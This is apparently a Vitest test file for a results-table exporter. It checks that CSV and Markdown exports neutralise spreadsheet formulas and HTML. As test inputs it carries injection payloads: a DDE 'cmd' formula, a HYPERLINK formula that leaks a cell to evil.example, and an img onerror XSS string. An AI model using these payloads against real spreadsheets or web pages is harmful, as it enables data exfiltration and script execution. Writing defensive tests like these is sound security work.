// Exports are safe to open: CSV text cells a spreadsheet would evaluate are neutralised (OWASP), Markdown never
// turns a model name or a note into a link, an image or HTML; several tables make one CSV with one header.
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import type { ResultRun } from '../../../../src/core/results';
import {
  CSV_HEADER,
  TABLE_KINDS,
  assembleTable,
  neutraliseCsv,
  tablesToCsv,
  toCsv,
  toMarkdown,
} from '../../../../src/core/tables';
import { manifest, result, syntheticRun } from '../results/make-results';

function runOf(model: string, n = 4): ResultRun {
  return {
    manifest: manifest({ model, variant: model.startsWith('@') ? '+v' : 'default' }),
    results: Array.from({ length: n }, (_, i) => result(`${model}-${i}`, { model, correct: i === 0 })),
  };
}

const readCsv = (csv: string): string[][] => Papa.parse<string[]>(csv.replace(/\r\n$/, ''), { newline: '\r\n' }).data;

describe('CSV formula neutralisation', () => {
  it.each(['=', '+', '-', '@', '\t', '\r'])('prefixes a text cell starting with %j with a single quote', (c) => {
    expect(neutraliseCsv(`${c}cmd|' /C calc'!A0`)).toBe(`'${c}cmd|' /C calc'!A0`);
  });

  it('leaves other text alone', () => {
    for (const t of ['qwen2.5-vl-7b', 'a=b', ' =x', '', "'=already"]) expect(neutraliseCsv(t)).toBe(t);
  });

  it('neutralises model ids and variants from the data, keeps negative numbers numeric', () => {
    const evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
    const table = assembleTable(1, [runOf(evil), runOf('@SUM(1+1)'), runOf('qwen2.5-vl-7b')], { paper: true });
    const rows = readCsv(toCsv(table));
    const model = CSV_HEADER.indexOf('model');
    const variant = CSV_HEADER.indexOf('variant');
    const diff = CSV_HEADER.indexOf('diff');
    const models = rows.slice(1).map((r) => r[model] ?? '');
    expect(models).toContain(`'${evil}`);
    expect(models).toContain("'@SUM(1+1)");
    for (const m of models) expect(m).not.toMatch(/^[=+\-@\t\r]/);
    expect(rows.find((r) => r[model] === "'@SUM(1+1)")?.[variant]).toBe("'+v");
    // the measured qwen 7B row is 1/4 against a paper value above 0.25: its difference stays a plain negative number
    const qwen = rows.find((r) => r[model] === 'qwen2.5-vl-7b' && r[4] === 'measured');
    expect(qwen?.[diff]).toMatch(/^-0\.\d{4}$/);
  });
});

describe('tablesToCsv', () => {
  it('writes every table under one header, each record naming its table', () => {
    const runs = [syntheticRun('qwen2.5-vl-7b', 'vqa-rad', 40, 3), syntheticRun('lingshu-7b', 'slake', 30, 4)];
    const tables = TABLE_KINDS.map((k) => assembleTable(k, runs));
    const rows = readCsv(tablesToCsv(tables));
    expect(rows.filter((r) => r[0] === 'table')).toHaveLength(1);
    expect([...new Set(rows.slice(1).map((r) => r[0]))]).toEqual(TABLE_KINDS.map(String));
    // each table's records are exactly what toCsv writes for it alone
    for (const t of tables) {
      const alone = readCsv(toCsv(t)).slice(1);
      expect(rows.filter((r) => r[0] === String(t.kind))).toEqual(alone);
    }
  });
});

describe('Markdown export escapes data', () => {
  it('keeps link syntax and HTML from model names and notes inert', () => {
    const evil = '[click](http://evil.example)<img src=x onerror=alert(1)>';
    const other = { ...runOf(evil), manifest: manifest({ model: evil, dataHash: 'sha256:other' }) };
    const table = assembleTable(1, [runOf(evil), other]);
    // the merge conflict note quotes the model name
    expect(table.notes.some((n) => n.includes(evil))).toBe(true);
    const md = toMarkdown(table);
    expect(md).not.toContain('<img');
    expect(md).not.toMatch(/(?<!\\)\]\(/); // no unescaped "](": no link
    expect(md).toContain('\\[click\\](http://evil.example)&lt;img src=x onerror=alert(1)>');
    const noteLine = md.split('\n').find((l) => l.startsWith('- ') && l.includes('evil.example'));
    expect(noteLine).toBeDefined();
    expect(noteLine).not.toContain('<img');
    expect(noteLine).toContain('\\[click\\]');
  });
});
